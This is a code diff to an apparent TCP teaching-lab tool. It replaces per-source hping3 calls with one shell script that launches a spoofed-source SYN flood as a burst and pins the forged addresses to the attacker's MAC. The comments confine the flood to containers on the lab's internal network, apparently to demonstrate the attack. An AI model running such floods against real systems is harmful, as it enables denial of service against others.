@@ -6,8 +6,10 @@ import type { DeployedLab } from './deployed-lab.js';
  * /24* (never the gateway .1, never a lab host, never the network or broadcast address), so the
  * server's SYN-ACKs and ARP requests stay on the lab's internal network and reach nobody.
  * Random sources (hping3 --rand-source) are never used. Each source sends `countPerSource` SYNs
- * with one `hping3 -S -p PORT -a SRC -c N TARGET` inside the attacking host's container, run as
- * an argv (no shell); many run at a time, since hping3 lingers about 1 s after its last packet.
+ * with one `hping3 -S -p PORT -a SRC -c N TARGET`; all of them start at once from ONE exec in the
+ * attacking host (a fixed script, addresses as arguments), so the flood is a burst: one
+ * `docker exec` per source spread 24 sources over 10 s on a slow runner, and the first half-open
+ * requests expired before the last arrived.
  *
  * Neighbour entries: an unused address answers no ARP request, and Linux reacts to the failed
  * resolution of a SYN-ACK's next hop (after 3 probes, about 3 s) with an ICMP host-unreachable
@@ -19,8 +21,15 @@ import type { DeployedLab } from './deployed-lab.js';
  * SYN-ACK retries as in the seed.
  */
 
-/** Concurrent hping3 processes per flood step. */
-const FLOOD_CONCURRENCY = 32;
+/**
+ * Fixed script: $1 port, $2 target, $3 SYNs per source, then the sources. Starts one hping3 per
+ * source in the background, then waits for each; hping3 exits 1 when nothing answered (the normal
+ * case for a forged source), so only a status above 1 is a failure.
+ */
+export const FLOOD_SCRIPT =
+  'port=$1 target=$2 count=$3; shift 3; pids=""; ' +
+  'for source; do hping3 -q -S -p "$port" -a "$source" -c "$count" -i u10000 "$target" >/dev/null 2>&1 & pids="$pids $!"; done; ' +
+  'failed=0; for pid in $pids; do wait "$pid"; [ "$?" -gt 1 ] && failed=$((failed + 1)); done; echo "failed=$failed"; [ "$failed" -eq 0 ]';
 /** Fixed script, addresses as arguments: pins each forged source to the attacker's MAC on the target. */
 const PIN_NEIGHBOURS_SCRIPT = 'mac=$1; shift; for address; do ip neigh replace "$address" lladdr "$mac" dev eth0 nud permanent || exit 1; done';
 
@@ -44,11 +53,6 @@ export function pickSpoofSources(subnet: string, used: readonly string[], count:
   return sources;
 }
 
-/** The argv of one forged-source SYN burst (hping3 runs inside the attacking host). */
-export function hping3SynArgv(source: string, target: string, port: number, count: number): string[] {
-  return ['hping3', '-q', '-S', '-p', String(port), '-a', source, '-c', String(count), '-i', 'u10000', target];
-}
-
 /** Sends `countPerSource` SYNs to `to:port` from each of `sources` unused lab addresses; resolves with the sources used. */
 export async function floodSyns(
   lab: DeployedLab,
@@ -64,18 +68,10 @@ export async function floodSyns(
   if (mac.exitCode !== 0 || pin.exitCode !== 0) {
     throw new Error(`${step.to}: could not point the forged sources at ${step.host}'s MAC address: ${mac.stderr.trim()} ${pin.stderr.trim()}; remedy: check that the lab image has iproute2 (tcplab image build)`);
   }
-  const queue = [...sources];
-  const worker = async (): Promise<void> => {
-    for (let source = queue.shift(); source !== undefined && !signal.aborted; source = queue.shift()) {
-      const argv = hping3SynArgv(source, target, step.port, step.countPerSource);
-      const result = await lab.runtime.exec(attacker, argv);
-      const output = `${result.stdout.toString('utf8')}${result.stderr}`;
-      // hping3 exits 1 when nothing answered, which is the normal case for a forged source.
-      if (result.exitCode > 1 || !/packets tra\w*mitted/.test(output)) {
-        throw new Error(`${step.host}: flood from ${source} failed: ${argv.join(' ')} exited with ${result.exitCode}: ${output.trim()}; remedy: check that the lab image has hping3 (tcplab image build)`);
-      }
-    }
-  };
-  await Promise.all(Array.from({ length: Math.min(FLOOD_CONCURRENCY, sources.length) }, worker));
+  if (signal.aborted) throw signal.reason;
+  const result = await lab.runtime.exec(attacker, ['sh', '-c', FLOOD_SCRIPT, 'flood', String(step.port), target, String(step.countPerSource), ...sources]);
+  if (result.exitCode !== 0) {
+    throw new Error(`${step.host}: the flood failed (${result.stdout.toString('utf8').trim()} of ${sources.length} hping3 runs; ${result.stderr.trim()}); remedy: check that the lab image has hping3 (tcplab image build)`);
+  }
   return sources;
 }
